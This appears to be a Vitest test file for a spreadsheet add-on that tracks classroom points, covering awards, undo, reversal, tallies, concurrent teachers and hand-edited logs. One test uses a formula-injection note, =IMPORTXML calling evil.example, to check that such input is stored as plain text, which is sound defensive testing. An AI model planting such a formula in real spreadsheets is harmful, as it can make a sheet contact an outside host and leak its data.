import { describe, expect, it } from 'vitest';
import { eventToRow, LOG_COL, LOG_WIDTH } from '../../shared/points/log.ts';
import type { PointEvent } from '../../shared/points/types.ts';
import { storedText } from '../../shared/sheet-text.ts';
import { formGroupsRequest, open, otherUser, ROSTER_ZH, type Session, formulasIn } from './helpers.ts';

/** A spreadsheet with the sample class grouped (分组 sheet written by the add-on). */
const grouped = async (locale = 'zh-CN'): Promise<Session> => {
  const s = await open({ locale, workbookOptions: { sheets: { 名单: ROSTER_ZH } } });
  expect(s.call('formGroupsRun', formGroupsRequest).ok).toBe(true);
  return s;
};

const logRows = (s: Session): unknown[][] => s.si.workbook.sheet('积分记录').values().slice(1);

/** A log row as written by the add-on, for a log a test fills in itself. */
const logRow = (e: Partial<PointEvent> & Pick<PointEvent, 'eventId' | 'studentId'>): unknown[] =>
  eventToRow({
    timestamp: '2026-11-01T00:00:00.000Z',
    studentName: '',
    group: '',
    category: '学习',
    points: 1,
    note: '',
    userKey: '',
    reverses: null,
    ...e,
  }).map((c) => (typeof c === 'string' ? storedText(c) : c)); // as getValues() reads it back

describe('Scoring sidebar: awards, undo, reversal', () => {
  it('starts from the current grouping with the default categories and zero totals', async () => {
    const s = await grouped();
    const st = s.call('scoringState');
    expect(st.groups).toHaveLength(6);
    expect(st.groups.flatMap((g: { members: unknown[] }) => g.members)).toHaveLength(24);
    expect(st.categories.map((c: { name: string }) => c.name)).toEqual(['学习', '纪律', '卫生']);
    expect(st.badge).toEqual({ name: '月亮', every: 20 });
    expect(Object.values(st.totals).every((t) => t === 0)).toBe(true);
  });

  it('appends one log row per student: local time, name, id, group, category, points, note; ids hidden at the end', async () => {
    const s = await grouped();
    const g = s.call('scoringState').groups[0]!;
    const ids = g.members.slice(0, 2).map((m: { id: string }) => m.id);
    const r = s.call('awardPoints', { studentIds: ids, category: '学习', points: 2, note: '主动发言' });
    expect(r.ok).toBe(true);
    expect(r.entries).toHaveLength(2);
    const log = s.si.workbook.sheet('积分记录');
    const rows = logRows(s);
    expect(rows).toHaveLength(2);
    for (const [i, row] of rows.entries()) {
      expect(ids).toContain(row[LOG_COL.studentId]);
      expect(row[LOG_COL.time]).toBeInstanceOf(Date);
      // What the teacher sees: the time in the spreadsheet's zone (Asia/Shanghai), not a UTC ISO string.
      const shown = log.displayValues()[i + 1]![LOG_COL.time];
      expect(shown).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d$/);
      expect(row[LOG_COL.instant]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      expect(row.slice(LOG_COL.group, LOG_COL.note + 1)).toEqual([g.name, '学习', 2, '主动发言']);
      // Who wrote it is an anonymous key: never the teacher's email.
      expect(String(row[LOG_COL.userKey])).not.toBe('');
      expect(JSON.stringify(row)).not.toContain('teacher@example.com');
    }
    expect(log.hiddenColumns).toEqual(new Set([8, 9, 10, 11, 12]));
    const st = s.call('scoringState');
    expect(st.totals[ids[0]!]).toBe(2);
    expect(st.recent[0]!.note).toBe('主动发言');
  });

  it('undo appends compensating rows for the whole click; the original rows are never edited', async () => {
    const s = await grouped();
    const g = s.call('scoringState').groups[1]!;
    s.call('awardPoints', { studentIds: g.members.map((m: { id: string }) => m.id), category: '纪律', points: -1 });
    const before = JSON.stringify(logRows(s));
    const u = s.call('undoLast');
    expect(u.ok).toBe(true);
    expect(u.entries).toHaveLength(g.members.length);
    const rows = logRows(s);
    expect(JSON.stringify(rows.slice(0, g.members.length))).toBe(before);
    expect(rows.slice(g.members.length).every((r) => r[LOG_COL.points] === 1 && r[LOG_COL.reverses] !== '')).toBe(true);
    const st = s.call('scoringState');
    expect(g.members.every((m: { id: string }) => st.totals[m.id] === 0)).toBe(true);
    expect(s.call('undoLast')).toMatchObject({ ok: false, message: '您没有可以撤销的记分。' });
  });

  it('reverses any past entry once; a second reversal is refused with a sentence', async () => {
    const s = await grouped();
    const { members } = s.call('scoringState').groups[0]!;
    const a = members[0]!;
    const b = members[1]!;
    s.call('awardPoints', { studentIds: [a.id], category: '学习', points: 2 });
    s.call('awardPoints', { studentIds: [b.id], category: '卫生', points: 1 });
    const first = s.call('scoringState').recent.find((e: { studentId: string }) => e.studentId === a.id)!;
    expect(s.call('reverseEntry', first.eventId).ok).toBe(true);
    const st = s.call('scoringState');
    expect(st.totals[a.id]).toBe(0);
    expect(st.totals[b.id]).toBe(1);
    expect(st.recent.find((e: { eventId: string }) => e.eventId === first.eventId)!.reversed).toBe(true);
    expect(s.call('reverseEntry', first.eventId)).toMatchObject({ ok: false, message: '这条记录已经撤回过了。' });
  });

  it('refuses awards before any grouping, for unknown students and with no category, saying what to do', async () => {
    const s = await open({ locale: 'en', workbookOptions: { sheets: { Roster: ROSTER_ZH } } });
    expect(s.call('awardPoints', { studentIds: ['2024001'], category: 'Study', points: 2 })).toMatchObject({
      ok: false,
      message: expect.stringMatching(/Form groups/),
    });
    s.call('formGroupsRun', formGroupsRequest);
    expect(s.call('awardPoints', { studentIds: ['nobody'], category: 'Study', points: 2 }).message).toMatch(
      /not in the current groups/,
    );
    expect(s.call('awardPoints', { studentIds: ['2024001'], category: '', points: 2 }).message).toMatch(/category/);
    expect(s.si.workbook.findSheet('Points log')).toBeUndefined();
  });

  it('keeps formula-looking notes and names as text in the log', async () => {
    const s = await grouped();
    const m = s.call('scoringState').groups[0]!.members[0]!;
    for (const note of ['=IMPORTXML("http://evil.example","//a")', '+1', '-2', '@x']) {
      expect(s.call('awardPoints', { studentIds: [m.id], category: '学习', points: 1, note }).ok).toBe(true);
    }
    const log = s.si.workbook.sheet('积分记录');
    expect(formulasIn(log)).toEqual([]);
    expect(logRows(s).map((r) => r[LOG_COL.note])).toEqual([
      '=IMPORTXML("http://evil.example","//a")',
      '+1',
      '-2',
      '@x',
    ]);
  });
});

describe('Tallies, badges, chart and leader rotation', () => {
  it('writes the Tallies sheet from the log with badges, ranks, a suggested leader and one leaderboard chart', async () => {
    const s = await grouped();
    const g = s.call('scoringState').groups[2]!;
    const star = g.members[g.members.length - 1]!;
    for (let i = 0; i < 10; i++) s.call('awardPoints', { studentIds: [star.id], category: '学习', points: 2 });
    const st = s.call('scoringState');
    expect(st.totals[star.id]).toBe(20);
    expect(st.badges[star.id]).toBe(1);
    expect(st.suggestedLeaders[g.name]).toBe(star.id);

    const t = s.call('updateTallies');
    expect(t).toMatchObject({ ok: true, sheetName: '积分汇总', events: 10, groups: 6 });
    const sheet = s.si.workbook.sheet('积分汇总');
    const v = sheet.values();
    expect(v[0]!.slice(0, 3)).toEqual(['小组', '积分（按人数折算）', '排名']);
    expect(v[1]![0]).toBe(g.name); // first on the leaderboard
    expect(v[1]![v[0]!.indexOf('建议组长')]).toBe(star.name);
    const studentRow = v.find((r) => r[0] === star.id)!;
    expect(studentRow[v.find((r) => r[0] === '学号')!.indexOf('月亮（每20分）')]).toBe(1);
    expect(sheet.charts).toHaveLength(1);
    expect(sheet.charts[0]).toMatchObject({ type: 'BAR', ranges: ['积分汇总!A1:B7'] });

    s.call('awardPoints', { studentIds: [g.members[0]!.id], category: '卫生', points: 1 });
    s.call('updateTallies');
    expect(sheet.charts).toHaveLength(1); // updated, not stacked
  });
});

describe('Concurrency: several teachers at once lose nothing', () => {
  it('a busy lock returns a queued message; the retry (same request id) lands once', async () => {
    const a = await grouped();
    const b = await otherUser(a, 'colleague@example.com', { locale: 'zh-CN' });
    const m = a.call('scoringState').groups[0]!.members[0]!;
    // Teacher A is in the middle of a write: A's execution holds the document lock.
    expect(a.si.LockService.getDocumentLock().tryLock(1000)).toBe(true);
    const req = { studentIds: [m.id], category: '学习', points: 2, requestId: 'req-0000-busy-test' };
    const busy = b.call('awardPoints', req);
    expect(busy).toMatchObject({ ok: false, busy: true });
    expect(busy.message).toMatch(/排队/);
    expect(a.si.workbook.findSheet('积分记录')).toBeUndefined();
    a.si.endExecution(); // A's write finished
    expect(b.call('awardPoints', { ...req, attempt: 2 })).toMatchObject({ ok: true, actionId: 'req-0000-busy-test' });
    // The reply was lost and the sidebar retries: not written twice.
    expect(b.call('awardPoints', { ...req, attempt: 3 })).toMatchObject({ ok: true, duplicate: true });
    expect(logRows(a)).toHaveLength(1);
    // Recorded under the colleague's own anonymous key, so A's undo will never take it back.
    expect(logRows(a)[0]![LOG_COL.userKey]).not.toBe('');
    expect(a.call('undoLast')).toMatchObject({ ok: false, message: '您没有可以撤销的记分。' });
  });

  it('three teachers clicking in turn while the lock is often busy: every queued award ends up in the log', async () => {
    const a = await grouped();
    const users = [a, await otherUser(a, 'b@example.com'), await otherUser(a, 'c@example.com')];
    const ids: string[] = a
      .call('scoringState')
      .groups.flatMap((g: { members: { id: string }[] }) => g.members.map((m) => m.id));
    const queues: { requestId: string; studentIds: string[]; category: string; points: number }[][] = users.map(
      () => [],
    );
    let n = 0;
    for (let round = 0; round < 20; round++) {
      users.forEach((_user, k) => {
        queues[k]!.push({
          requestId: `req-${k}-${round}-xxxxxxxx`,
          studentIds: [ids[(round * 3 + k) % ids.length]!],
          category: '学习',
          points: 1,
        });
        n++;
      });
      // Someone holds the lock during every other round (a slow write elsewhere).
      const holder = users[round % 3]!;
      const held = round % 2 === 0 && holder.si.LockService.getDocumentLock().tryLock(1000);
      users.forEach((u, k) => {
        if (u === holder && held) return;
        const q = queues[k]!;
        while (q.length) {
          const r = u.call('awardPoints', q[0]);
          if (r.busy) break; // stays queued
          expect(r.ok).toBe(true);
          q.shift();
        }
      });
      if (held) holder.si.endExecution();
    }
    users.forEach((u, k) => {
      for (const req of queues[k]!) expect(u.call('awardPoints', req).ok).toBe(true);
    });
    const rows = logRows(a);
    expect(rows).toHaveLength(n);
    expect(new Set(rows.map((r) => r[LOG_COL.actionId])).size).toBe(n);
    const total = Object.values(a.call('scoringState').totals as Record<string, number>).reduce((x, y) => x + y, 0);
    expect(total).toBe(n);
  });
});

describe('A log edited by hand', () => {
  it('skips broken rows with their row numbers, keeps unknown students, and awards keep working', async () => {
    const s = await grouped();
    const m = s.call('scoringState').groups[0]!.members[0]!;
    s.call('awardPoints', { studentIds: [m.id], category: '学习', points: 2 });
    s.call('awardPoints', { studentIds: [m.id], category: '学习', points: 2 });
    const log = s.si.workbook.sheet('积分记录');
    const rows = log.values();
    // Row 3 "deleted" (cleared), a broken row 4 with points "abc", row 5 for a student no longer on the roster.
    const broken = logRow({ eventId: 'x1', studentId: m.id, studentName: m.name });
    broken[LOG_COL.points] = 'abc';
    s.si.workbook.setSheet('积分记录', [
      rows[0]!,
      rows[1]!,
      new Array(LOG_WIDTH).fill(''),
      broken,
      logRow({ eventId: 'x2', studentId: 'GONE', studentName: '转学生', category: '纪律', points: 3 }),
    ]);
    const st = s.call('scoringState');
    expect(st.ok).toBe(true);
    expect(st.totals[m.id]).toBe(2);
    expect(st.notices.join('\n')).toMatch(/第 4 行.*abc/);
    expect(st.notices.join('\n')).toMatch(/第 5 行.*GONE/);
    expect(s.call('awardPoints', { studentIds: [m.id], category: '学习', points: 2 }).ok).toBe(true);
    expect(s.call('scoringState').totals[m.id]).toBe(4);
    const t = s.call('updateTallies');
    expect(t.ok).toBe(true);
    expect(
      s.si.workbook
        .sheet('积分汇总')
        .values()
        .some((r) => r[0] === 'GONE'),
    ).toBe(true);
  });
});

describe('Cost of an award', () => {
  it('is a constant number of spreadsheet operations, whatever the log length', async () => {
    const measure = async (logLength: number) => {
      const s = await grouped();
      const m = s.call('scoringState').groups[0]!.members[0]!;
      s.call('awardPoints', { studentIds: [m.id], category: '学习', points: 1 });
      const log = s.si.workbook.sheet('积分记录');
      const header = log.values()[0]!;
      const filler = Array.from({ length: logLength }, (_, i) =>
        logRow({ eventId: `e${i}`, studentId: m.id, studentName: m.name }),
      );
      s.si.workbook.setSheet('积分记录', [header, ...filler]);
      // A sheet filled to its last row grows once by 1,000 rows on the next append; measure the award after that.
      s.si.workbook.resetStats();
      expect(s.call('awardPoints', { studentIds: [m.id], category: '学习', points: 1 }).ok).toBe(true);
      expect(s.si.workbook.stats.calls['Sheet.insertRowsAfter'] ?? 0).toBe(logLength >= 1000 ? 1 : 0);
      s.si.workbook.resetStats();
      const r = s.call('awardPoints', {
        studentIds: [m.id],
        category: '学习',
        points: 1,
        requestId: 'req-cost-000001',
      });
      expect(r.message).toBeUndefined();
      return { ...s.si.workbook.stats };
    };
    const small = await measure(100);
    const large = await measure(5000);
    const count = (x: typeof small) => Object.values(x.calls).reduce((a, b) => a + b, 0);
    expect(large.calls).toEqual(small.calls);
    expect(count(large)).toBe(count(small));
    expect(large.cellsRead).toBe(small.cellsRead); // the grouping only; a first attempt never reads the log
    expect(large.calls['Range.setValues']).toBe(1);
  });
});

describe('Reversal while a colleague works', () => {
  it('refuses a second reversal of the same entry written by a colleague in the meantime', async () => {
    const a = await grouped();
    const b = await otherUser(a, 'colleague@example.com');
    const m = a.call('scoringState').groups[0]!.members[0]!;
    a.call('awardPoints', { studentIds: [m.id], category: '学习', points: 2 });
    const entry = a.call('scoringState').recent[0]!;
    expect(b.call('reverseEntry', entry.eventId).ok).toBe(true);
    expect(a.call('reverseEntry', entry.eventId)).toMatchObject({ ok: false, message: '这条记录已经撤回过了。' });
    expect(logRows(a)).toHaveLength(2);
    expect(a.call('scoringState').totals[m.id]).toBe(0);
  });
});
